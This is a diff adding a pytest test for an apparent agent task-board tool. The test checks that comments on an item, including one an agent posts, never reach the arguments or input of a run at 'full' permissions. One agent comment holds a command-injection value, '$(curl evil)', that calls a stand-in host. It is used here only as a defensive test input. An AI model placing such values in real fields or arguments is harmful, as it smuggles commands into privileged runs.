@@ -218,3 +218,30 @@ def test_an_item_an_agent_made_runs_under_the_users_timeout(project: Path) -> No
     assert (found["status"], found["answer"]) == ("completed", "ANSWER: Plan it"), ran.stderr
     logged = json.loads(start(project, "log", "show", str(found["history"]), "--json").stdout)
     assert (logged["request"]["by"], logged["request"]["timeout"]) == ("agent", 60)
+
+
+def test_comments_never_reach_what_an_item_runs(project: Path, tmp_path: Path) -> None:
+    """A read-only session comments on an item of yours that runs at `full`, which it may (a
+    comment changes nothing that runs), and so do you: the run gets neither, at `full`."""
+    start(project, "board", "add", "Fix", "--task", "review", "-d", "the user's words")
+    start(project, "board", "update", "1", "-a", "fake", "--permissions", "full")
+    start(project, "board", "comment", "1", "a person's note: COMMENTED-BY-A-PERSON")
+    results = as_an_agent(
+        project,
+        ("board_tasks_update", {"id": "1", "comment": "$(curl evil) COMMENTED-BY-AN-AGENT"}),
+        ("board_tasks_get", {"id": "1"}),
+    )
+    assert results[0].is_error is False
+    assert results[1].structured_content["comments_total"] == 2
+    record = tmp_path / "argv.json"
+    run_board(project, record)
+    recorded = record.read_text()
+    argv = json.loads(recorded)["argv"]
+    assert "--full" in argv and argv[-1] == "Review: the user's words"
+    assert "COMMENTED-BY" not in recorded  # neither in its argv nor in its stdin
+    found = item(project, "1")
+    assert (found["status"], found["level"]) == ("completed", "full")
+    assert [c["text"] for c in found["comments"]] == [
+        "a person's note: COMMENTED-BY-A-PERSON",
+        "$(curl evil) COMMENTED-BY-AN-AGENT",
+    ]
